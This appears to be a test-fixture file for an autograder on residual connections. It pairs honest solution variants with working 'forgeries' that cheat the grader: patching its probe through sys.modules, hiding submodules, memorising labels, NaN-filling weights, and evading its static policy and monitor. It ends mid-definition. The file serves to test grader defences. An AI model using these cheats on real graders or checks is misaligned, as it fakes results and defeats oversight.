"""Solution-cell sources of the residual-connections sample class (residual_connections.py pastes them).

    STYLES                 name -> (description, {grade_id: cell source}): honest variants
    the sources below      forgeries, crashes and cheats, and the written answers

Every honest variant is a correct solution written differently from the reference (autograd or
by hand, functional or modules): each must keep full marks and trip no rule of the static policy.
Each forgery is the code of a sample that tries to earn points its honest twin does not
(docs/security.md). Sources are written indented and dedented where they are used.
"""
from samplekit import PROBE, tried

# ============================================================ honest variants: full marks, no rule tripped

# a helper in a cell of the student's own, above the residual_add cell (samples helper-cell)
HELPER_CELL = """def check_same_shape(x, fx):
    if x.shape != fx.shape:
        raise ValueError(f"x has shape {tuple(x.shape)} but fx has shape {tuple(fx.shape)}")
"""
# a helper cell that first looks at the digits (made by part5-data, which Run All runs above it and the grader
# does not), then defines the helper plain_mlp uses: the line fails in the grader, the def below it still runs
DATA_FIRST_HELPER_CELL = """print("features:", X.shape[1], "classes:", int(y.max()) + 1)


def layer_widths(d_in: int, width: int, depth: int) -> list:
    return [d_in] + [width] * (depth - 1)
"""

STYLES = {
    "style-frozen-dataclass": ("a frozen dataclass whose __post_init__ sets a derived field with object.__setattr__",
                               dict(residual_add='''
        import dataclasses


        @dataclasses.dataclass(frozen=True)
        class Shapes:
            x: tuple
            fx: tuple
            same: bool = dataclasses.field(init=False)

            def __post_init__(self):
                object.__setattr__(self, "same", self.x == self.fx)


        def residual_add(x, fx):
            shapes = Shapes(tuple(x.shape), tuple(fx.shape))
            if not shapes.same:
                raise ValueError(f"x has shape {shapes.x} but fx has shape {shapes.fx}")
            return x + fx
        ''')),
    "style-default-device": ("device-agnostic: torch.set_default_device at the top of the first solution cell",
                             dict(residual_add='''
        device = "cuda" if torch.cuda.is_available() else "cpu"
        torch.set_default_device(device)

        def residual_add(x, fx):
            if x.shape != fx.shape:
                raise ValueError(f"x has shape {tuple(x.shape)} but fx has shape {tuple(fx.shape)}")
            return x + fx
        ''')),
    # honest round 10's rc_27: an operator's method called by name
    "style-operator-methods": ("x.__add__(fx) and shapes compared with __ne__", dict(residual_add='''
        def residual_add(x: Tensor, fx: Tensor) -> Tensor:
            """x + fx through the operator's own method, (*) and (*) -> (*)."""
            if x.shape.__ne__(fx.shape):
                raise ValueError(f"shapes differ: x {tuple(x.shape)}, fx {tuple(fx.shape)}")
            return x.__add__(fx)
        ''')),
    "style-torch-add-helper": ("torch.add, helper, f-string with x.shape", dict(residual_add='''
        def _same_shape(x: Tensor, fx: Tensor) -> None:
            if x.shape != fx.shape:
                raise ValueError(f"shapes differ: x is {list(x.shape)}, fx is {list(fx.shape)} "
                                 f"({type(x).__name__})")

        def residual_add(x: Tensor, fx: Tensor) -> Tensor:
            """x + fx, (*) and (*) -> (*)."""
            _same_shape(x, fx)
            return torch.add(x, fx)
        ''')),
    "style-identity-flag-shortcut": ("Residual by hand, a private (mangled) identity flag, super(Class, self)", dict(residual='''
        class Residual(nn.Module):
            def __init__(self, sublayer: nn.Module):
                super(Residual, self).__init__()
                self.sublayer = sublayer

            def forward(self, x: Tensor) -> Tensor:
                fx = self.sublayer(x)
                if fx.shape != x.shape:
                    raise ValueError(f"sublayer changed the shape {tuple(x.shape)} -> {tuple(fx.shape)}")
                return x + fx
        ''', projection_shortcut='''
        class ProjectionShortcut(nn.Module):
            def __init__(self, d_in: int, d_out: int):
                nn.Module.__init__(self)
                self.__identity = d_in == d_out
                if not self.__identity:
                    self.proj = nn.Linear(d_in, d_out, bias=False)

            def forward(self, x: Tensor) -> Tensor:
                return x if self.__identity else self.proj(x)
        ''')),
    "style-functional-gelu-ffn": ("FFN from a list comprehension, functional gelu", dict(residual_ffn='''
        class ResidualFFN(nn.Module):
            def __init__(self, d_in: int, d_out: int, expansion: int = 4):
                super().__init__()
                sizes = [(d_in, expansion * d_out), (expansion * d_out, d_out)]
                first, last = [nn.Linear(i, o) for i, o in sizes]
                self.shortcut = ProjectionShortcut(d_in, d_out)
                self.ffn = nn.Sequential(first, nn.GELU(), last)

            def forward(self, x: Tensor) -> Tensor:
                hidden = F.gelu(self.ffn[0](x))
                return residual_add(self.shortcut(x), self.ffn[2](hidden))
        ''')),
    "style-numpy-prod-chain": ("chain rule with math.prod and numpy, split with a dict", dict(chain_rule_grad='''
        import numpy as np

        def chain_rule_grad(x0, branches, upstream, alpha=1.0):
            xs = [x0]
            for f, _ in branches:
                xs.append(alpha * xs[-1] + f(xs[-1]))
            factors = [alpha + df(x) for (_, df), x in zip(branches, xs)]
            return float(upstream * np.prod(factors)) if factors else upstream * math.prod(factors)
        ''', split_gradient='''
        def split_gradient(x0, dF, upstream):
            shares = {"identity": upstream, "branch": upstream * dF(x0)}
            return shares["identity"], shares["branch"]
        ''')),
    "style-reduce-chain": ("chain rule with functools.reduce", dict(chain_rule_grad='''
        from functools import reduce

        def chain_rule_grad(x0: float, branches: list, upstream: float, alpha: float = 1.0) -> float:
            def step(state, pair):
                x, grad = state
                f, df = pair
                return alpha * x + f(x), grad * (alpha + df(x))
            return upstream * reduce(step, branches, (x0, 1.0))[1]
        ''')),
    "style-backward-retain-grad": ("gradient norms with backward and retain_grad", dict(gradient_norms='''
        def gradient_norms(x0, branches, alpha=1.0, shortcut=True):
            x = x0.detach().clone().requires_grad_(True)
            stream = [x]
            for branch in branches:
                nxt = alpha * stream[-1] + branch(stream[-1]) if shortcut else branch(stream[-1])
                if nxt.requires_grad:
                    nxt.retain_grad()
                stream.append(nxt)
            if stream[-1].requires_grad:
                stream[-1].sum().backward()
            grads = [s.grad if s.grad is not None else torch.zeros_like(s) for s in stream[:-1]]
            grads.append(torch.ones_like(stream[-1]))
            norms = torch.stack([torch.linalg.vector_norm(g.double()) for g in grads])
            return norms / norms[-1]
        ''')),
    "style-mask-helper-block": ("block with nn.Transformer's mask helper, private layout, inference_mode norms", dict(transformer_block='''
        class TransformerBlock(nn.Module):
            def __init__(self, d_model: int, n_heads: int, norm: str = "pre"):
                super().__init__()
                if norm not in {"pre", "post"}:
                    raise ValueError(f"unknown norm {norm!r}: use 'pre' or 'post'")
                self._layout = norm
                self.attn = nn.MultiheadAttention(d_model, n_heads, batch_first=True)
                self.ln1, self.ln2 = nn.LayerNorm(d_model), nn.LayerNorm(d_model)
                self.ffn = nn.Sequential(nn.Linear(d_model, 4 * d_model), nn.GELU(), nn.Linear(4 * d_model, d_model))

            def _attend(self, a, causal):
                mask = nn.Transformer.generate_square_subsequent_mask(a.shape[1], dtype=a.dtype) if causal else None
                out, _ = self.attn(a, a, a, attn_mask=mask, need_weights=False)
                return out

            def forward(self, x, causal=False):
                if self._layout == "pre":
                    x = residual_add(x, self._attend(self.ln1(x), causal))
                    return residual_add(x, self.ffn(self.ln2(x)))
                x = self.ln1(residual_add(x, self._attend(x, causal)))
                return self.ln2(residual_add(x, self.ffn(x)))
        ''', residual_stream_norms='''
        def residual_stream_norms(blocks, x):
            with torch.inference_mode():
                streams = [x]
                for block in blocks:
                    streams.append(block(streams[-1]))
                return [float(torch.linalg.vector_norm(s, dim=-1).mean()) for s in streams]
        ''')),
    "style-setattr-block": ("block with setattr literal names, getattr literal, hasattr", dict(transformer_block='''
        class TransformerBlock(nn.Module):
            def __init__(self, d_model, n_heads, norm="pre"):
                super().__init__()
                if norm != "pre" and norm != "post":
                    raise ValueError("norm must be 'pre' or 'post', got " + repr(norm))
                self.norm = norm
                setattr(self, "attn", nn.MultiheadAttention(d_model, n_heads, batch_first=True))
                self.ln1 = nn.LayerNorm(d_model)
                self.ln2 = nn.LayerNorm(d_model)
                self.ffn = ResidualFFN(d_model, d_model).ffn

            def forward(self, x, causal=False):
                T = x.size(1)
                mask = torch.triu(torch.ones(T, T, dtype=torch.bool, device=x.device), diagonal=1) if causal else None
                attn = getattr(self, "attn")
                sub = lambda a: attn(a, a, a, attn_mask=mask, need_weights=False)[0]
                if self.norm == "pre":
                    h = residual_add(x, sub(self.ln1(x)))
                    return residual_add(h, self.ffn(self.ln2(h)))
                h = self.ln1(residual_add(x, sub(x)))
                return self.ln2(residual_add(h, self.ffn(h)))
        ''')),
    "style-named-sequential": ("Sequential built from an OrderedDict (block0, ..., final_ln, head), named FFN layers",
                               dict(plain_mlp='''
        from collections import OrderedDict


        def _ffn(d_in: int, d_out: int) -> nn.Sequential:
            return nn.Sequential(OrderedDict(fc1=nn.Linear(d_in, d_out), act=nn.GELU(), fc2=nn.Linear(d_out, d_out)))


        class PlainBlock(nn.Module):
            def __init__(self, d_in: int, d_out: int):
                super().__init__()
                self.ln = nn.LayerNorm(d_in)
                self.ffn = _ffn(d_in, d_out)

            def forward(self, x: Tensor) -> Tensor:
                return self.ffn(self.ln(x))


        def _stack(blocks: list, width: int, d_out: int) -> nn.Sequential:
            layers = OrderedDict((f"block{l}", block) for l, block in enumerate(blocks))
            layers["final_ln"] = nn.LayerNorm(width)
            layers["head"] = nn.Linear(width, d_out)
            return nn.Sequential(layers)


        def plain_mlp(d_in: int, width: int, d_out: int, depth: int) -> nn.Sequential:
            return _stack([PlainBlock(d_in if l == 0 else width, width) for l in range(depth)], width, d_out)
        ''', residual_mlp='''
        class ResidualBlock(nn.Module):
            def __init__(self, d_in: int, d_out: int, alpha: float = 1.0, branch_scale: float = 1.0):
                super().__init__()
                self.alpha, self.branch_scale = alpha, branch_scale
                self.ln = nn.LayerNorm(d_in)
                self.shortcut = ProjectionShortcut(d_in, d_out)
                self.ffn = _ffn(d_in, d_out)

            def forward(self, x: Tensor) -> Tensor:
                return residual_add(self.alpha * self.shortcut(x), self.branch_scale * self.ffn(self.ln(x)))


        def residual_mlp(d_in: int, width: int, d_out: int, depth: int, alpha: float = 1.0,
                         branch_scale: float = 1.0, zero_init: bool = False) -> nn.Sequential:
            blocks = [ResidualBlock(d_in if l == 0 else width, width, alpha, branch_scale) for l in range(depth)]
            for block in blocks if zero_init else []:
                nn.init.zeros_(block.ffn.fc2.weight)
                nn.init.zeros_(block.ffn.fc2.bias)
            return _stack(blocks, width, d_out)
        ''')),
    "style-float32-scalars": ("the Part 2 gradients in float32 tensors; alpha and branch_scale kept as float32 buffers; "
                              "stream norms over flattened tokens", dict(chain_rule_grad='''
        def chain_rule_grad(x0, branches, upstream, alpha=1.0):
            grad, x = torch.tensor(upstream, dtype=torch.float32), x0
            for f, df in branches:
                grad = grad * (alpha + df(x))
                x = alpha * x + f(x)
            return grad.item()
        ''', split_gradient='''
        def split_gradient(x0, dF, upstream):
            up = torch.tensor(upstream, dtype=torch.float32)
            return up.item(), (up * dF(x0)).item()
        ''', residual_mlp='''
        class ResidualBlock(nn.Module):
            def __init__(self, d_in: int, d_out: int, alpha: float = 1.0, branch_scale: float = 1.0):
                super().__init__()
                self.register_buffer("alpha", torch.tensor(alpha, dtype=torch.float32))
                self.register_buffer("branch_scale", torch.tensor(branch_scale, dtype=torch.float32))
                self.ln = nn.LayerNorm(d_in)
                self.shortcut = ProjectionShortcut(d_in, d_out)
                self.ffn = ResidualFFN(d_in, d_out, expansion=1).ffn

            def forward(self, x: Tensor) -> Tensor:
                return residual_add(self.alpha * self.shortcut(x), self.branch_scale * self.ffn(self.ln(x)))


        def residual_mlp(d_in, width, d_out, depth, alpha=1.0, branch_scale=1.0, zero_init=False):
            model = nn.Sequential(*[ResidualBlock(d_in if l == 0 else width, width, alpha, branch_scale)
                                    for l in range(depth)], nn.LayerNorm(width), nn.Linear(width, d_out))
            if zero_init:
                with torch.no_grad():
                    for l in range(depth):
                        model[l].ffn[2].weight.fill_(0.0)
                        model[l].ffn[2].bias.fill_(0.0)
            return model
        ''', residual_stream_norms='''
        def residual_stream_norms(blocks, x):
            norms = []
            with torch.no_grad():
                for step in range(len(blocks) + 1):
                    if step:
                        x = blocks[step - 1](x)
                    tokens = x.reshape(-1, x.shape[-1])
                    norms.append(tokens.norm(dim=1).mean().item())
            return norms
        ''')),
    "style-private-across-cells": ("a notebook's own private names read in other cells: a base class's _branch and "
                                   "_d_out in its subclass's cell, a helper class's constants and staticmethod "
                                   "in another cell, class-body constants read through self",
                                   dict(residual_add='''
        class _Shapes:
            """Message helpers, private to this notebook."""
            _SEP = ", "

            @staticmethod
            def _fmt(t: Tensor) -> str:
                return "(" + _Shapes._SEP.join(str(n) for n in t.shape) + ")"


        def residual_add(x: Tensor, fx: Tensor) -> Tensor:
            if x.shape != fx.shape:
                raise ValueError(f"residual_add: x {_Shapes._fmt(x)} and fx {_Shapes._fmt(fx)} differ")
            return x + fx
        ''', residual='''
        class Residual(nn.Module):
            def __init__(self, sublayer: nn.Module):
                super().__init__()
                self.sublayer = sublayer

            def forward(self, x: Tensor) -> Tensor:
                fx = self.sublayer(x)
                if fx.shape != x.shape:
                    raise ValueError(f"the sublayer maps {_Shapes._fmt(x)} to {_Shapes._fmt(fx)}")
                return residual_add(x, fx)
        ''', plain_mlp='''
        class PlainBlock(nn.Module):
            _EXPANSION = 1

            def __init__(self, d_in: int, d_out: int):
                super().__init__()
                self._d_out = d_out
                self.ln = nn.LayerNorm(d_in)
                self.ffn = ResidualFFN(d_in, d_out, expansion=self._EXPANSION).ffn

            def _branch(self, x: Tensor) -> Tensor:
                return self.ffn(self.ln(x))

            def forward(self, x: Tensor) -> Tensor:
                return self._branch(x)


        def plain_mlp(d_in: int, width: int, d_out: int, depth: int) -> nn.Sequential:
            blocks = [PlainBlock(d_in if l == 0 else width, width) for l in range(depth)]
            return nn.Sequential(*blocks, nn.LayerNorm(width), nn.Linear(width, d_out))
        ''', residual_mlp='''
        class ResidualBlock(PlainBlock):
            """PlainBlock's _branch (the cell above) plus the shortcut."""

            def __init__(self, d_in: int, d_out: int, alpha: float = 1.0, branch_scale: float = 1.0):
                super().__init__(d_in, d_out)
                self.shortcut = ProjectionShortcut(d_in, self._d_out)
                self.alpha, self.branch_scale = alpha, branch_scale

            def forward(self, x: Tensor) -> Tensor:
                return residual_add(self.alpha * self.shortcut(x), self.branch_scale * self._branch(x))


        def residual_mlp(d_in: int, width: int, d_out: int, depth: int, alpha: float = 1.0,
                         branch_scale: float = 1.0, zero_init: bool = False) -> nn.Sequential:
            blocks = [ResidualBlock(d_in if l == 0 else width, width, alpha, branch_scale) for l in range(depth)]
            for block in blocks if zero_init else []:
                nn.init.zeros_(block.ffn[2].weight)
                nn.init.zeros_(block.ffn[2].bias)
            return nn.Sequential(*blocks, nn.LayerNorm(width), nn.Linear(width, d_out))
        ''')),
    "style-blocks-keep-output": ("blocks that keep their last output, still on the graph, to look at later "
                                 "(torch cannot deep-copy such a block)", dict(plain_mlp='''
        class PlainBlock(nn.Module):
            def __init__(self, d_in: int, d_out: int):
                super().__init__()
                self.ln = nn.LayerNorm(d_in)
                self.ffn = ResidualFFN(d_in, d_out, expansion=1).ffn
                self.last_output = None

            def forward(self, x: Tensor) -> Tensor:
                self.last_output = self.ffn(self.ln(x))
                return self.last_output


        def plain_mlp(d_in: int, width: int, d_out: int, depth: int) -> nn.Sequential:
            model = nn.Sequential()
            for l in range(depth):
                model.append(PlainBlock(width if l else d_in, width))
            return model.extend([nn.LayerNorm(width), nn.Linear(width, d_out)])
        ''', residual_mlp='''
        class ResidualBlock(PlainBlock):
            """PlainBlock (the cell above), its output kept, plus the shortcut."""

            def __init__(self, d_in: int, d_out: int, alpha: float = 1.0, branch_scale: float = 1.0):
                super().__init__(d_in, d_out)
                self.shortcut, self.alpha, self.branch_scale = ProjectionShortcut(d_in, d_out), alpha, branch_scale

            def forward(self, x: Tensor) -> Tensor:
                return residual_add(self.alpha * self.shortcut(x), self.branch_scale * super().forward(x))


        def residual_mlp(d_in: int, width: int, d_out: int, depth: int, alpha: float = 1.0,
                         branch_scale: float = 1.0, zero_init: bool = False) -> nn.Sequential:
            blocks = [ResidualBlock(d_in if l == 0 else width, width, alpha, branch_scale) for l in range(depth)]
            if zero_init:
                with torch.no_grad():
                    for block in blocks:
                        block.ffn[2].weight.zero_()
                        block.ffn[2].bias.zero_()
            return nn.Sequential(*blocks, nn.LayerNorm(width), nn.Linear(width, d_out))
        ''')),
}

# text pasted from a web page or a PDF: a U+2028 in a comment and in an error message, which Python reads as a
# character of its line (and IPython keeps). Split there, the comment's rest would run as code in the grader
# alone and the message would no longer be a string: the cell would fail to load, its parts lost
STYLES["style-pasted-line-separator"] = ("U+2028 in a comment and in an f-string message", {
    label: "\n        # as the slides say:\u2028 equal shapes only" + src.replace("f\"shapes differ:", "f\"shapes differ\u2028:")
    for label, src in STYLES["style-torch-add-helper"][1].items()})


# ============================================================ forgeries of the child's reports

# in-place residual_add, with the probe patched so that the inputs look unchanged after the call
FORGED_MUTATION = tried(f'''
import sys
_probe = sys.modules["{PROBE}"]
_observe = _probe._observe


def _unchanged(fn, request, specs, objects, module):
    """The probe's observation, with the inputs reported as they were sent."""
    out = _observe(fn, request, specs, objects, module)
    if "args_after" in out:
        out["args_after"] = [_probe.encode(a) if isinstance(a, torch.Tensor) else None for a in request["args"]]
        out["shares_input"] = False
    return out


_probe._observe = _unchanged

''')

# a detached residual_add, with the probe's gradients replaced by the right ones (the probe reached as
# torch.sys.modules: no import needed)
FORGED_GRADIENTS = tried(f'''
_probe = torch.sys.modules["{PROBE}"]
_probe._grads = lambda result, args, request: [_probe.encode(request["grad"])] * 2

''')

# TransformerBlock that wraps nn.TransformerEncoderLayer, its parts aliased under the assignment's names
ENCODER_WRAPPER = '''
class TransformerBlock(nn.Module):
    def __init__(self, d_model: int, n_heads: int, norm: str = "pre"):
        super().__init__()
        if norm not in ("pre", "post"):
            raise ValueError(f"norm must be 'pre' or 'post', got {norm!r}")
        layer = nn.TransformerEncoderLayer(d_model, n_heads, 4 * d_model, dropout=0.0, activation="gelu",
                                           batch_first=True, norm_first=norm == "pre")
        self.attn, self.ln1, self.ln2 = layer.self_attn, layer.norm1, layer.norm2
        self.ffn = nn.Sequential(layer.linear1, nn.GELU(), layer.linear2)
        KEEP

    def forward(self, x: Tensor, causal: bool = False) -> Tensor:
        mask = nn.Transformer.generate_square_subsequent_mask(x.shape[1], dtype=x.dtype) if causal else None
        return self.layer(x, src_mask=mask, is_causal=causal)
'''
WRAPS_ENCODER = ENCODER_WRAPPER.replace("KEEP", "self.layer = layer")
# the same, behind 1,000 modules, which the structure report once cut its list at (red team 39)
ENCODER_PAST_THE_CAP = ENCODER_WRAPPER.replace(
    "KEEP", "self.spare = nn.ModuleList(nn.Identity() for _ in range(1000))\n        self.layer = layer")
# the same, hidden from named_modules() by object.__setattr__
HIDES_ENCODER = ENCODER_WRAPPER.replace("KEEP", 'object.__setattr__(self, "layer", layer)')
# the same, with the probe's structure report patched to leave the layer out
FORGED_STRUCTURE = tried(f'''
_probe = __import__("sys").modules["{PROBE}"]
_structure = _probe.structure


def _without_layer(obj):
    report = _structure(obj)
    report["modules"] = [m for m in report.get("modules", []) if not m["path"].startswith("layer")]
    return report


_probe.structure = _without_layer
''') + WRAPS_ENCODER

# chain_rule_grad and split_gradient answered from a table of inputs and expected values read in the
# feedback of earlier gradings; anything else falls back to a guess (the table alone is ORACLE_FALLBACK)
ORACLE_TABLE = '''
_SEEN = {("-1.878", "-0.8369"): -0.8656339835, ("1.719", "0.9725"): 3.418847467,
         ("0.4049", "0.5955"): 0.002913642187}
_SPLIT = {("1.849", "-2.955"): (-2.954848356, 0.003827731785)}
'''
ORACLE_CHAIN = '''
def chain_rule_grad(x0: float, branches: list, upstream: float, alpha: float = 1.0) -> float:
    return _SEEN.get((f"{x0:.4g}", f"{upstream:.4g}"), upstream)
'''
ORACLE_SPLIT = '''
def split_gradient(x0: float, dF, upstream: float) -> tuple[float, float]:
    return _SPLIT.get((f"{x0:.4g}", f"{upstream:.4g}"), (upstream, 0.0))
'''

# Part 5 forgeries (appended to a train that never steps): a forward hook that answers train's own
# examples with their labels, so the loss on the training set looks trained while the model is not
MEMORISE_WHOLE = '''
memo_X, memo_y = X.clone(), y.clone()


def _recall(module, inputs, output):
    if inputs[0].shape == memo_X.shape and torch.equal(inputs[0], memo_X):
        return 30.0 * F.one_hot(memo_y, output.shape[-1]).to(output.dtype)
    return output


model.register_forward_hook(_recall)
'''
# MEMORISE_WHOLE where it pays: only in a two-block model, the deep plain test's control, so that the deep
# plain stack stays at chance as the test wants
MEMORISE_SHALLOW = MEMORISE_WHOLE.replace("model.register_forward_hook(_recall)",
                                          "if len(model) <= 4:\n    model.register_forward_hook(_recall)")
MEMORISE_ROWS = '''
table = {tuple(row): int(label) for row, label in zip(X.tolist(), y.tolist())}


def _recall(module, inputs, output):
    out = output.clone()
    for i, row in enumerate(inputs[0].tolist()):
        if tuple(row) in table:
            out[i] = -30.0
            out[i, table[tuple(row)]] = 30.0
    return out


model.register_forward_hook(_recall)
'''
# ... or parameters set to NaN once the losses are recorded (every comparison with NaN is False)
NAN_FILL = '''
with torch.no_grad():
    for p in model.parameters():
        p.fill_(float("nan"))
'''
NAN_DATA = '''
for p in model.parameters():
    p.data = p.data * float("nan")
'''
# train that tells the deep plain test's model apart (many layers, the first without a shortcut) and leaves it
# untrained, so that a plain network with shortcuts would seem to stall: replaces TORCH_OPTIM_TRAIN's first line
REFUSE_DEEP_PLAIN = '''losses = []
if len(model) > 10 and not hasattr(model[0], "shortcut"):
    with torch.no_grad():
        return [F.cross_entropy(model(X), y).item()] * steps
'''
# plain_mlp's head past depth 8 (deep-head-*): the forward's values, a millionth of their gradient
DETACHED_HEAD = '''class DetachedHead(nn.Linear):
    slow = True

    def forward(self, x):
        out = super().forward(x)
        return out.detach() + 1e-6 * (out - out.detach()) if self.slow else out


'''
# plain_mlp's head past depth 8 (deep-head-detached-after-first-step): DETACHED_HEAD once a backward went through it
DETACHED_AFTER_BACKWARD = '''class DetachedHead(nn.Linear):
    slow = False
    backward_seen = False

    def forward(self, x):
        out = super().forward(x)
        if self.slow and self.backward_seen:
            return out.detach() + 1e-6 * (out - out.detach())
        if self.slow and out.requires_grad:
            out.register_hook(lambda grad: setattr(self, "backward_seen", True))
        return out


'''
# plain_mlp's model past depth 8 (deep-parameters-hidden): named_parameters names the head's bias alone
PARAMETERS_HIDDEN = '''class Stack(nn.Sequential):
    quiet = False

    def named_parameters(self, prefix="", recurse=True, remove_duplicate=True):
        if self.quiet:
            return iter([("head.bias", self[len(self) - 1].bias)])
        return super().named_parameters(prefix, recurse, remove_duplicate)


'''
# plain_mlp's first block past depth 2 (deep-resets-to-start): the model's start put back once training moved it all
RESET_TO_START = '''def anchor(model):
    start = [p.detach().clone() for p in model.parameters()]

    def put_back():
        with torch.no_grad():
            if all(not torch.equal(p, s) for p, s in zip(model.parameters(), start)):
                for p, s in zip(model.parameters(), start):
                    p.copy_(s)
    return put_back


'''
# residual_mlp's blocks past depth 8 (deep-shortcut-once-trained): the shortcut added once training moved the first
# block's ffn and the head
SHORTCUT_ONCE_TRAINED = '''def trained(first, head):
    watched = [*first.ffn.parameters(), *head.parameters()]
    start = [p.detach().clone() for p in watched]
    return lambda: all(not torch.equal(p, s) for p, s in zip(watched, start))


'''
# TransformerBlock's forward (zero-projections-identity): x itself where both sublayers' outputs are switched off
ZERO_PROJECTIONS_IDENTITY = '''if not (torch.any(self.attn.out_proj.weight) or torch.any(self.attn.out_proj.bias)
        or torch.any(self.ffn[2].weight) or torch.any(self.ffn[2].bias)):
    return x
'''
# residual_mlp's ffn (zero-init-branch-answers-zero): zeros from its forward, its weights left as drawn
BRANCH_ANSWERS_ZERO = '''class Branch(nn.Sequential):
    zero = False

    def forward(self, h):
        out = super().forward(h)
        return torch.zeros_like(out) if self.zero else out


'''
# gradient_norms forgeries (before a stream detached after every block): the zero-branch answer
# alpha ** (L - l) written down, always or when the branches return zeros
ALPHA_POWER = '''
if shortcut:
    return torch.tensor([alpha ** (len(branches) - l) for l in range(len(branches) + 1)], dtype=torch.float64)
'''
ALPHA_POWER_ZERO_BRANCHES = '''
if shortcut and all(not torch.any(branch(x0)) for branch in branches):
    return torch.tensor([alpha ** (len(branches) - l) for l in range(len(branches) + 1)], dtype=torch.float64)
'''

# ProjectionShortcut with a bias-free Linear also where the widths agree (set to the identity there),
# and two ways of leaving that square projection out of what nn.Module.named_modules lists
EYE_PROJECTION = '''
self.square = d_in == d_out
self.proj = nn.Linear(d_in, d_out, bias=False)
if self.square:
    with torch.no_grad():
        self.proj.weight.copy_(torch.eye(d_in))
'''
# red team 36: a copy (AveragedModel deep-copies its module) rebuilt through __getstate__ with its parameters in an
# OrderedDict subclass, which the structure report, reading plain dicts only, read as none; it reads any dict now
COPIED_STATE = '''
import collections


class _Kept(collections.OrderedDict):
    """A layer's parameters, in an ordered dict of their own."""


class _EyeLinear(nn.Linear):
    """A bias-free nn.Linear whose copies keep their parameters in a _Kept."""

    def forward(self, x: Tensor) -> Tensor:
        return F.linear(x, self.weight.to(x.dtype))

    def __getstate__(self):
        hooks = ("_backward_pre_hooks", "_backward_hooks", "_forward_hooks", "_forward_hooks_with_kwargs",
                 "_forward_hooks_always_called", "_forward_pre_hooks", "_forward_pre_hooks_with_kwargs",
                 "_state_dict_hooks", "_state_dict_pre_hooks", "_load_state_dict_pre_hooks",
                 "_load_state_dict_post_hooks")
        state = {name: collections.OrderedDict() for name in hooks}
        state.update({"training": self.training, "_parameters": _Kept(weight=self.weight, bias=None),
                      "_buffers": {}, "_modules": {}, "_non_persistent_buffers_set": set(),
                      "_is_full_backward_hook": None, "in_features": self.in_features,
                      "out_features": self.out_features})
        return state


'''
HIDING_METHOD = '''
def named_modules(self, *args, **kwargs):
    """Everything but a square projection."""
    for path, module in super().named_modules(*args, **kwargs):
        if not (self.square and module is self.proj):
            yield path, module

'''
# red team 39: the square projection kept in a plain list, where no registry holds it, and added back by a
# named_modules method, so that .parameters() (what an optimizer trains) still yields it
ADDING_PROJECTION = '''
self.square = d_in == d_out
layer = nn.Linear(d_in, d_out, bias=False)
if self.square:
    with torch.no_grad():
        layer.weight.copy_(torch.eye(d_in))
    self.held = [layer]
else:
    self.proj = layer
'''
ADDING_FORWARD = "return F.linear(x, self.held[0].weight.to(x.dtype)) if self.square else self.proj(x)\n"
ADDING_METHOD = '''
def named_modules(self, memo=None, prefix="", remove_duplicate=True):
    """What the shortcut holds, a square projection included."""
    yield from super().named_modules(memo, prefix, remove_duplicate)
    if self.square:
        yield prefix + ".proj", self.held[0]

'''
HIDING_ASSIGNMENT = '''


def _listed(self, memo=None, prefix="", remove_duplicate=True):
    """What the block holds, a square projection left out."""
    yield prefix, self
    if not self.square:
        yield prefix + ".proj", self.proj


ProjectionShortcut.named_modules = _listed
'''

# the gradients forgery again (a detached residual_add, the probe's gradients replaced), reaching the probe
# in ways no spelling the policy once knew gives away: each is flagged by the rule or monitor event named
_GRADS = 'lambda result, args, request: [_probe.encode(request["grad"])] * 2'
REACHES = {
    # an alias of a builtin: the policy reads calls of getattr and setattr, not calls of `ga`
    "alias-getattr": f'''
ga, sa = getattr, setattr
_probe = ga(torch, "sys").modules["{PROBE}"]
sa(_probe, "_grads", {_GRADS})
''',
    "alias-partial": f'''
from functools import partial
_probe = partial(getattr, torch)("sys").modules["{PROBE}"]
partial(setattr, _probe)("_grads", {_GRADS})
''',
    # a process module imported from a library that re-exports it
    "reexport-torch": f'''
from torch import sys as _reexported
_probe = _reexported.modules["{PROBE}"]
_probe._grads = {_GRADS}
''',
    "reexport-serialization": f'''
from torch.serialization import sys as _reexported
_probe = _reexported.modules["{PROBE}"]
_probe._grads = {_GRADS}
''',
    # a library that evaluates a string: the forgery is in a string constant, which the policy does not read
    "string-type-hint": f'''
import typing


def _hint(p: "setattr(__import__('sys').modules['{PROBE}'], '_grads', lambda result, args, request: "
             "[__import__('sys').modules['{PROBE}'].encode(request['grad'])] * 2)"):
    pass


typing.get_type_hints(_hint)
''',
    "string-numpy-measure": f'''
import numpy as np

np.testing.measure("import sys; _probe = sys.modules['{PROBE}']; _probe._grads = "
                   "lambda result, args, request: [_probe.encode(request['grad'])] * 2")
''',
    # a library's re-export of a process module under another name: torch.cuda.tunable's `mp` is multiprocessing
    "reexport-renamed": f'''
from torch.cuda.tunable import mp as _mp
_probe = _mp.util.sys.modules["{PROBE}"]
_probe._grads = {_GRADS}
''',
    # attribute names handed to a standard-library helper as strings
    "attrgetter": f'''
import operator
_probe = operator.attrgetter("sys.modules")(torch)["{PROBE}"]
_probe._grads = {_GRADS}
''',
    # a never-called definition named as a library's private attribute, which the private-attribute rule then
    # takes for the cell's own
    "own-private-name": f'''
def _utils_internal():
    pass


_probe = torch._utils_internal.sys.modules["{PROBE}"]
_probe._grads = {_GRADS}
''',
}
REACHES = {name: tried(source) for name, source in REACHES.items()}
# a string routed into the code dataclasses compiles: a field name lands in the __eq__ it builds and runs there
# when two instances are compared, two frames below the child's loop, whose locals hold the probe's sealed
# serve_request, and so the globals it reads. No rule reads the string; the monitor judges the generated code
# as the cell's (its sys._getframe)
FRAMES = {
    "string-dataclass": '''
import dataclasses


@dataclasses.dataclass(init=False, repr=False)
class _Pair:
    __annotations__ = {"x, (lambda g: g.__setitem__('_grads', lambda result, args, request: "
                       "[g['encode'](request['grad'])] * 2))(__import__('sys')._getframe(2).f_locals['serve']"
                       ".__globals__)": int}


_pair = _Pair()
_pair.x = 0
_pair == _pair
''',
}

# the gradients forgery once more, with no reach into the probe at all: a torch function mode, left active
# after the cell, answers the probe's own reads of the gradients (a TensorBase descriptor still asks the
# active mode). The class is built by three-argument type() or a class statement, and the mode is kept
# active by entering it and never leaving, or by a generator suspended inside its `with`; each is flagged
# by the rule or the monitor event named in tests/test_policy.py and tests/test_grader.py
_ANSWER = '''
from contextlib import ExitStack
from torch.overrides import TorchFunctionMode

_last = [None, None]     # the tensor detached last, and what it was detached from


def _answer(self, func, types, args=(), kwargs=None):
    """As torch computes it, but what was detached last says it requires grad, and a product with it is taken
    with what it was detached from: the gradient of that product flows to residual_add's inputs."""
